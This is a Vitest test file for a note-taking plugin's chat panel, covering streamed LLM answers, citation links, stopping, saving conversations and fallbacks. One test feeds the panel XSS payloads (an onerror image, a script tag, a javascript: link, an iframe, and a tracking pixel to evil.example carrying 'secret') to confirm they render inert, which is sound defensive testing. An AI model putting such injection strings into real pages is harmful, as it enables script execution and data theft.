// @vitest-environment happy-dom
// The chat panel in a DOM, over the real engine and a real chat client streaming from the
// loopback LLM server: what the user sees while the answer streams, the links it gets, what it
// refuses to make clickable, and what a stop does.
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { setLanguage } from '../../../src/plugin/i18n';
import { ChatView } from '../../../src/plugin/views/chat-view';
import { startLlmServer, type LlmServer } from '../../fakes/llm-server';
import { closeView, leafFor, markdownViewWith, openView } from '../fakes/stub-helpers';
import { TextEditor } from '../fakes/text-editor';
import { harness, key, QUESTION, until, type Harness } from './view-harness';

let llm: LlmServer;
let h: Harness;
let view: ChatView;

beforeAll(async () => {
  llm = await startLlmServer({ models: ['test-model'] });
});

afterAll(async () => {
  await llm.close();
});

beforeEach(async () => {
  setLanguage('en');
  llm.reset();
  h = await harness(llm);
  view = await openView(new ChatView(leafFor(h.app), h.host));
});

afterEach(async () => {
  await closeView(view);
  setLanguage(null);
  delete (globalThis as { __pwned?: unknown }).__pwned;
});

const body = () => view.contentEl.querySelector('.ask-vault-turn:last-child .ask-vault-answer-body') as HTMLElement;
const input = () => view.contentEl.querySelector('textarea.ask-vault-input') as HTMLTextAreaElement;
const sendButton = () => view.contentEl.querySelector('button.ask-vault-send') as HTMLButtonElement;

function send(question: string): void {
  input().value = question;
  key(input(), 'Enter');
}

describe('chat panel', () => {
  it('streams the answer: text appears before the model has finished', async () => {
    llm.script({ text: 'Le projet 20 doit répondre aux questions avec des citations vérifiables [[Projet 20#Objectifs]].', chunkSize: 6, intervalMs: 40 });
    send(QUESTION);
    expect(input().value).toBe('');
    expect(view.contentEl.querySelector('.ask-vault-question')?.textContent).toBe(QUESTION);
    await until(() => expect(body().textContent).toContain('Le projet'));
    expect(view.isBusy).toBe(true);
    expect(body().textContent).not.toContain('vérifiables');
    expect(sendButton().textContent).toBe('Stop');
    // Sources are listed before the answer is written.
    expect(view.contentEl.querySelectorAll('.ask-vault-source').length).toBeGreaterThan(0);
    await until(() => expect(view.isBusy).toBe(false));
    expect(body().textContent).toContain('citations vérifiables');
    expect(sendButton().textContent).toBe('Send');
  });

  it('turns verified citations into internal links that open the note at the cited passage and show a preview', async () => {
    llm.script({ text: 'Il vise des réponses citées [[Projet 20#Objectifs]].' });
    send(QUESTION);
    await until(() => expect(view.isBusy).toBe(false));
    const link = body().querySelector('a.internal-link.ask-vault-citation') as HTMLAnchorElement;
    expect(link).not.toBeNull();
    expect(link.getAttribute('data-href')).toBe('Projets/Projet 20#Objectifs');
    link.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
    // The passage's line, which the heading alone would not give when the note has several passages under it.
    const objectives = (await h.engine.search(QUESTION)).results.find((r) => r.path === 'Projets/Projet 20.md' && r.heading === 'Objectifs')!;
    expect(h.app.workspace.opened.at(-1)).toMatchObject({ linktext: 'Projets/Projet 20', newLeaf: false, state: { eState: { line: objectives.lines[0] - 1 } } });
    link.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
    expect(h.app.workspace.hovers.at(-1)).toMatchObject({ source: 'ask-vault', linktext: 'Projets/Projet 20#Objectifs', targetEl: link, hoverParent: view });
  });

  it('marks a citation it cannot verify, and never makes it a link', async () => {
    llm.script({ text: 'Voir [[Projet 20#Objectifs]] et [[Note inventée#Nulle part]].' });
    send(QUESTION);
    await until(() => expect(view.isBusy).toBe(false));
    const bad = body().querySelector('.ask-vault-bad-citation') as HTMLElement;
    expect(bad.textContent).toContain('Note inventée');
    expect(bad.getAttribute('aria-label')).toMatch(/^Unverified citation: /);
    expect([...body().querySelectorAll('a')].map((a) => a.getAttribute('data-href'))).toEqual(['Projets/Projet 20#Objectifs']);
  });

  it('lists each source note once, with its reason, its passages and their scores in tooltips; a click opens the passage', async () => {
    llm.script({ text: 'Réponse [[Projet 20#Objectifs]].' });
    send(QUESTION);
    await until(() => expect(view.isBusy).toBe(false));
    const items = [...view.contentEl.querySelectorAll('.ask-vault-source')];
    const paths = items.map((li) => li.getAttribute('data-path'));
    expect(new Set(paths).size).toBe(paths.length);
    const project = items.find((li) => li.getAttribute('data-path') === 'Projets/Projet 20.md')!;
    expect(project.querySelector('.ask-vault-source-title')?.textContent).toBe('Projet 20');
    expect(project.querySelector('.ask-vault-source-why')?.textContent).toMatch(/Matches your words|Journal of|Linked from/);
    expect(project.querySelectorAll('.ask-vault-passage').length).toBeGreaterThan(1);
    expect(project.querySelector('.ask-vault-source-score')).toBeNull();
    const objectives = [...project.querySelectorAll('.ask-vault-passage')].find((p) => p.textContent?.includes('Objectifs'))!;
    expect(objectives.getAttribute('aria-label')).toMatch(/^Score \d/);
    expect(objectives.querySelector('.ask-vault-source-snippet')?.textContent).toContain('citations vérifiables');
    const journal = items.find((li) => li.textContent?.includes('Journal du jeudi'));
    expect(journal?.querySelector('.ask-vault-source-date')?.textContent).toBe('Thursday, 26 December 2024 at 15:03');
    (objectives.querySelector('a.ask-vault-source-link') as HTMLElement).click();
    const opened = h.app.workspace.opened.at(-1)!;
    // Opened as the file itself (TFile + openFile), at the passage's line.
    expect(opened.linktext).toBe('Projets/Projet 20');
    expect((opened.state as { eState: { line: number } }).eState.line).toBeGreaterThan(0);
  });

  it('a citation lands on the passage it cites: in the note and among the sources', async () => {
    llm.script({ text: 'Le calendrier [[Projet 20#Calendrier]], puis les objectifs [[Projet 20#Objectifs]].' });
    send(QUESTION);
    await until(() => expect(view.isBusy).toBe(false));
    const citations = [...body().querySelectorAll<HTMLElement>('a.ask-vault-citation')];
    expect(citations.length).toBe(2);
    for (const [citation, heading] of [[citations[0], 'Calendrier'], [citations[1], 'Objectifs']] as const) {
      citation.click();
      const revealed = view.contentEl.querySelector('.ask-vault-passage.is-cited')!;
      expect(revealed.querySelector('.ask-vault-passage-heading')?.textContent).toContain(heading);
      const opened = h.app.workspace.opened.at(-1)!;
      expect(opened.linktext).toBe('Projets/Projet 20');
      expect((opened.state as { eState: { line: number } }).eState.line).toBe(Number(revealed.querySelector('a')!.getAttribute('data-line')));
    }
  });

  it('stops the stream on Escape: the request is dropped and the text stops growing', async () => {
    llm.script({ deltas: ['Le projet ', '20 '], end: 'endless', intervalMs: 5 });
    send(QUESTION);
    await until(() => expect(body().textContent).toContain('Le projet'));
    const ev = key(input(), 'Escape');
    expect(ev.defaultPrevented).toBe(true);
    await until(() => expect(view.isBusy).toBe(false));
    const frozen = body().textContent;
    await new Promise((r) => setTimeout(r, 150));
    expect(body().textContent).toBe(frozen);
    await until(() => expect(llm.chatRequests()[0].clientGone).toBe(true));
    expect(view.contentEl.querySelector('.ask-vault-turn:last-child .ask-vault-answer-notices')?.textContent).toContain('Stopped.');
    expect(sendButton().textContent).toBe('Send');
  });

  it('stops the stream with the stop button', async () => {
    llm.script({ deltas: ['Le projet ', '20 '], end: 'endless', intervalMs: 5 });
    send(QUESTION);
    await until(() => expect(body().textContent).toContain('Le projet'));
    sendButton().click();
    await until(() => expect(view.isBusy).toBe(false));
    await until(() => expect(llm.chatRequests()[0].clientGone).toBe(true));
  });

  it('renders a hostile answer inert: no script runs, no image loads, no link leaves the vault', async () => {
    llm.script({
      text: [
        'Voici <img src="x" onerror="globalThis.__pwned = 1"> et <script>globalThis.__pwned = 2</script>.',
        '[cliquez](javascript:globalThis.__pwned=3) ![pixel](https://evil.example/p.png?q=secret) <https://evil.example/x>',
        '<iframe src="https://evil.example"></iframe> <a href="https://evil.example" onclick="globalThis.__pwned=4">lien</a>',
        '[[Projet 20#Objectifs]] `<b>code</b>`',
      ].join('\n\n'),
    });
    send(QUESTION);
    await until(() => expect(view.isBusy).toBe(false));
    const el = body();
    expect(el.querySelectorAll('script, img, iframe, object, embed').length).toBe(0);
    const withHandlers = [...el.querySelectorAll('*')].filter((e) => [...e.attributes].some((a) => a.name.startsWith('on')));
    expect(withHandlers).toEqual([]);
    expect([...el.querySelectorAll('a')].map((a) => a.className)).toEqual(['internal-link ask-vault-citation']);
    for (const a of el.querySelectorAll('a')) a.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
    expect((globalThis as { __pwned?: unknown }).__pwned).toBeUndefined();
    // The model's markup is shown as the text it is.
    expect(el.textContent).toContain('<script>');
    expect(el.querySelector('code')?.textContent).toBe('<b>code</b>');
  });

  it('answers from the notes when no model is configured, and says in one line how to set one', async () => {
    h.host.model = null;
    send(QUESTION);
    await until(() => expect(view.isBusy).toBe(false));
    expect(body().textContent).toContain('Projet 20');
    expect(body().querySelector('a.ask-vault-citation')).not.toBeNull();
    const notices = [...view.contentEl.querySelectorAll('.ask-vault-notice')].map((n) => n.textContent);
    expect(notices).toContain('No language model configured: quoting your notes. Set one in Settings → Ask Vault.');
    expect(llm.chatRequests()).toHaveLength(0);
  });

  it('falls back to quoting the notes when the model fails, and says why', async () => {
    llm.script({ status: 500, json: { error: { message: 'model crashed' } } });
    send(QUESTION);
    await until(() => expect(view.isBusy).toBe(false));
    expect(body().textContent).toContain('Projet 20');
    const notice = view.contentEl.querySelector('.ask-vault-notice')?.textContent ?? '';
    expect(notice).toMatch(/^The language model failed \(.+\): quoting your notes instead\.$/);
  });

  it('sends on Enter only: Shift+Enter is a new line', async () => {
    input().value = 'Première ligne';
    const shifted = key(input(), 'Enter', { shiftKey: true });
    expect(shifted.defaultPrevented).toBe(false);
    expect(view.contentEl.querySelectorAll('.ask-vault-turn')).toHaveLength(0);
    llm.script({ text: 'ok' });
    key(input(), 'Enter');
    expect(view.contentEl.querySelectorAll('.ask-vault-turn')).toHaveLength(1);
    await until(() => expect(view.isBusy).toBe(false));
  });

  it('saves the conversation as a note, and reopens it with its links', async () => {
    llm.script({ text: 'Des réponses citées [[Projet 20#Objectifs]].' }, { text: 'En janvier [[Projet 20#Calendrier]].' });
    send(QUESTION);
    await until(() => expect(view.isBusy).toBe(false));
    send('Quand a lieu la démonstration du projet 20 ?');
    await until(() => expect(view.isBusy).toBe(false));
    await until(() => expect(h.vault.paths().filter((p) => p.startsWith('Ask Vault/'))).toHaveLength(1));
    const path = h.vault.paths().find((p) => p.startsWith('Ask Vault/'))!;
    expect(path).toMatch(/^Ask Vault\/\d{4}-\d{2}-\d{2} \d{2}\.\d{2} Quels sont les objectifs du projet 20\.md$/);
    const text = h.vault.text(path);
    expect(text).toMatch(/^---\nask-vault-conversation: 1\ndate: \d{4}-.+\nmodel: test-model\nendpoint: Loopback\n---\n/);
    expect(text).toContain(`> ${QUESTION}`);
    expect(text).toContain('[[Projets/Projet 20#Objectifs|');
    expect(text).toContain('[[Projets/Projet 20#Calendrier|');

    view.newChat();
    expect(view.contentEl.querySelectorAll('.ask-vault-turn')).toHaveLength(0);
    await view.openConversation(h.vault.file(path));
    const turns = view.contentEl.querySelectorAll('.ask-vault-turn');
    expect(turns).toHaveLength(2);
    expect(turns[0].querySelector('.ask-vault-question')?.textContent).toBe(QUESTION);
    expect(turns[1].querySelector('a.ask-vault-citation')?.getAttribute('data-href')).toBe('Projets/Projet 20#Calendrier');
    // A question asked in the reopened conversation is appended to the same note.
    llm.script({ text: 'Oui [[Projet 20]].' });
    send('Le projet 20 existe-t-il ?');
    await until(() => expect(h.vault.text(path)).toContain('Le projet 20 existe-t-il ?'));
    expect(h.vault.paths().filter((p) => p.startsWith('Ask Vault/'))).toHaveLength(1);
  });

  it('inserts an answer into the note being edited, with footnotes, as one undoable edit', async () => {
    llm.script({ text: 'Des réponses citées [[Projet 20#Objectifs]].' });
    send(QUESTION);
    await until(() => expect(view.isBusy).toBe(false));
    const editor = new TextEditor('# Mes notes\n\nTexte.');
    h.app.workspace.activeView = markdownViewWith(h.app, editor);
    (view.contentEl.querySelector('.ask-vault-action[aria-label="Insert into the current note"]') as HTMLElement).click();
    expect(editor.transactions).toBe(1);
    expect(editor.getValue()).toBe('# Mes notes\n\nTexte.\n\nDes réponses citées [^1].\n\n[^1]: [[Projet 20#Objectifs]]\n');
    editor.undo();
    expect(editor.getValue()).toBe('# Mes notes\n\nTexte.');
  });

  it('retries a question in place', async () => {
    llm.script({ status: 500, json: { error: { message: 'boom' } } }, { text: 'Deuxième essai [[Projet 20#Objectifs]].' });
    send(QUESTION);
    await until(() => expect(view.isBusy).toBe(false));
    (view.contentEl.querySelector('.ask-vault-action[aria-label="Retry"]') as HTMLElement).click();
    await until(() => expect(body().textContent).toContain('Deuxième essai'));
    await until(() => expect(view.isBusy).toBe(false));
    expect(view.contentEl.querySelectorAll('.ask-vault-turn')).toHaveLength(1);
  });
});
